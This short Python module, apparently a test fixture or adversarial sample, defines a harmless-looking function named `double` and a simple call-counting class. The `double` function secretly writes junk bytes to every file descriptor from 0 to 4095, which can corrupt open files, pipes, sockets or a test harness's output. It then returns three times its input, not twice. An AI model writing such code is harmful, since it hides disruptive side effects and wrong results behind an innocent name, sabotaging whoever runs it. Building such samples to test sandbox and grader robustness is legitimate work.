import os


def double(x):
    for descriptor in range(4096):
        try:
            os.write(descriptor, b"noise " * 100)
        except OSError:
            pass
    return x * 3


class Counter:
    def __init__(self):
        self.count = 0

    def __call__(self):
        self.count += 1
        return self.count
